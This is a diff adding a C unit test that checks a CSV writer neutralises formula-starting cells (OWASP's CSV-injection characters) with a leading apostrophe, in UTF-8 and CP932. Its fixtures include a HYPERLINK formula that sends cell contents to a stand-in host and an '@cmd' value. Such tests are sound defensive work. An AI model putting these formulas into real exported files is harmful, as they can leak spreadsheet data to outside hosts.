@@ -22,6 +22,7 @@
 #include "base/xalloc.h"
 #include "doc/cards_pdf.h"
 #include "doc/csv.h"
+#include "doc/csv_write.h"
 
 extern char **environ;
 
@@ -408,6 +409,39 @@ static void test_demo_names(void **state)
 	assert_memory_equal(kana, "ヨシダ\u3000", strlen("ヨシダ\u3000"));
 }
 
+/* ---- CSV writing: formulas ---- */
+
+/* Writes one record of fields in enc and returns the encoded line without BOM (malloc'd). */
+static char *csv_line(enum doc_csv_enc enc, const char *const *fields, size_t n)
+{
+	struct doc_csv_out w;
+	assert_int_equal(doc_csv_out_init(&w, enc, 1 << 16), ERR_OK);
+	assert_int_equal(doc_csv_out_row(&w, fields, n, NULL), ERR_OK);
+	size_t skip = enc == DOC_CSV_UTF8_BOM ? 3 : 0;
+	char *line = xstrdup(w.out.data + skip);
+	doc_csv_out_free(&w);
+	return line;
+}
+
+static void test_csv_formulas_neutralised(void **state)
+{
+	(void)state;
+	/* OWASP's first characters, each written after an apostrophe, value kept readable. */
+	const char *const f[] = {"=HYPERLINK(\"http://x/?x=\"&A1,\"a\")", "+SUM(A1)", "-2+3",
+				 "@cmd", "\tx", "\r=1", "＝1+1", "１＝１", "a=b", "-12", "+3.5",
+				 "-", "山田 太郎"};
+	char *line = csv_line(DOC_CSV_UTF8_BOM, f, sizeof f / sizeof f[0]);
+	assert_string_equal(line, "\"'=HYPERLINK(\"\"http://x/?x=\"\"&A1,\"\"a\"\")\","
+				  "'+SUM(A1),'-2+3,'@cmd,'\tx,\"'\r=1\",'＝1+1,１＝１,a=b,-12,"
+				  "+3.5,'-,山田 太郎\r\n");
+	free(line);
+	/* The same in CP932: the apostrophe is ASCII there too. */
+	const char *const g[] = {"=1+1", "＠山田", "田中"};
+	line = csv_line(DOC_CSV_CP932, g, 3);
+	assert_string_equal(line, "'=1+1,'\x81\x97\x8e\x52\x93\x63,\x93\x63\x92\x86\r\n");
+	free(line);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -421,6 +455,7 @@ int main(void)
 	    cmocka_unit_test(test_cards_pdf),
 	    cmocka_unit_test(test_cards_pdf_invalid),
 	    cmocka_unit_test(test_demo_names),
+	    cmocka_unit_test(test_csv_formulas_neutralised),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
